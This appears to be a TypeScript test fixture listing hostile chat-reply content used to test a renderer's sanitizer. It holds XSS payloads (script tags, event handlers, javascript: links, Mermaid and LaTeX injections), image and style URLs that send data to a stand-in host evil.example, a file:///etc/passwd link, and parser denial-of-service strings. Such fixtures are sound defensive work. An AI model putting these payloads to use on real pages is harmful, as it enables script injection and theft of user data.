const PWN = 'globalThis.pwned=1';

/** Replies that try to run scripts, load resources or link into the app. */
export const HOSTILE: Record<string, string> = {
  scripts: `<script>${PWN}</script>\n\n<script src="https://evil.example/x.js"></script>\n\n<ScRiPt>${PWN}</sCrIpT>`,
  'event handlers': `<img src=x onerror="${PWN}"> <svg onload="${PWN}"> <body onpageshow="${PWN}"> <details open ontoggle="${PWN}">x</details> <input autofocus onfocus="${PWN}"> <video><source onerror="${PWN}"></video>`,
  'markup in another': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">\n\n<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>\n\n<template><script>${PWN}</script></template>`,
  'links to scripts': `[a](javascript:${PWN}) [b](JaVaScRiPt:${PWN}) [c](java&#10;script:${PWN}) [d](&#106;avascript:${PWN}) [e](data:text/html,<script>${PWN}</script>) [f](vbscript:x) <javascript:${PWN}> [g][r] [h](blob:https://evil.example/1) [i](file:///etc/passwd)\n\n[r]: javascript:${PWN}`,
  'links into the application':
    '[out](/api/auth/sign-out) [up](../settings) [hash](#root) [other](//evil.example/x)',
  'images that tell':
    '![secret](https://evil.example/p.png?q=secret) ![](http://127.0.0.1:9/x) ![s](//evil.example/x.svg) ![r][i] <img src="https://evil.example/2.png"> ![d](data:image/svg+xml,<svg/onload=alert(1)>)\n\n[i]: https://evil.example/3.png',
  styles:
    '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/bg.png) }</style>\n\n<div style="position:fixed;inset:0;background:url(https://evil.example/y.png)">cover</div>\n\n<link rel=stylesheet href="https://evil.example/z.css">\n\n<p class="fixed inset-0 z-50">cover</p>',
  'what moves the page': `<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/"> <iframe src="https://evil.example/"></iframe> <form action="https://evil.example/"><button autofocus>go</button></form> <object data="https://evil.example/o.swf"></object> <embed src="https://evil.example/e">`,
  'names of the page':
    '<a name="root" id="root">x</a> <img name="getElementById"> <form id="message"><input name="attributes"></form>\n\n## root\n\n## __proto__\n\n[^constructor]\n\n[^constructor]: x',
  'code that closes its block': `\`\`\`html"><script>${PWN}</script>\n</code></pre><script>${PWN}</script>\n\`\`\`\n\n\`<img src=x onerror=${PWN}>\`\n\n\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\ny\n\`\`\``,
  formulas: `$\\href{javascript:${PWN}}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/i.png}$ $\\htmlStyle{background:url(https://evil.example/s)}{x}$ $\\htmlClass{fixed}{x}$ $\\class{x}{y}$\n\n$$\\def\\a{\\a\\a}\\a$$\n\n$$\\rule{9999em}{9999em}$$\n\n$$\\text{<img src=x onerror=${PWN}>}$$\n\n$$\\unicode{x}$$`,
  'a diagram with links and scripts': `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${PWN}>"] --> B\n  click A href "javascript:${PWN}"\n  click B call alert(1)\n\`\`\``,
  'a diagram that loads':
    '```mermaid\nflowchart LR\n  A@{ img: "https://evil.example/d.png", label: "x" }\n  style A fill:url(https://evil.example/f)\n```\n\n```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/t) }", "theme": "base"}}%%\nflowchart LR\n  A --> B\n```\n\n```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  themeCSS: "* { fill: red }"\n---\nflowchart LR\n  A["<b onclick=alert(1)>x</b>"] --> B\n```',
  'a diagram that lets itself be drawn': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["a #lt;b onclick=${PWN}#gt;"] --> B\n  click A call alert(1)\n  click B href "javascript:${PWN}" _self\n\`\`\``,
  'an invalid diagram': '```mermaid\nnothing of the kind <script>\n```',
  'deeper nesting than a parser can bear': `${'> '.repeat(10_000)}deep\n\n${'['.repeat(10_000)}\n\n${'- '.repeat(10_000)}deep\n\n${'*a '.repeat(10_000)}`,
  drawings: `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a><animate onbegin="${PWN}" attributeName="x"/><use href="https://evil.example/u.svg#x"/></svg>\n\n\`\`\`svg\n<svg onload="${PWN}"/>\n\`\`\``,
  'deep nesting': `${'> '.repeat(300)}deep\n\n${'- '.repeat(200)}deep\n\n${'['.repeat(2000)}x${']'.repeat(2000)}(y)\n\n${'*'.repeat(3000)}\n\n${'<div>'.repeat(1000)}`,
  'much of what is slow': `${'a**b'.repeat(1500)}\n\n${'`'.repeat(3000)}\n\n${'$a'.repeat(2000)}\n\n|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${'b|'.repeat(300)}`,
};
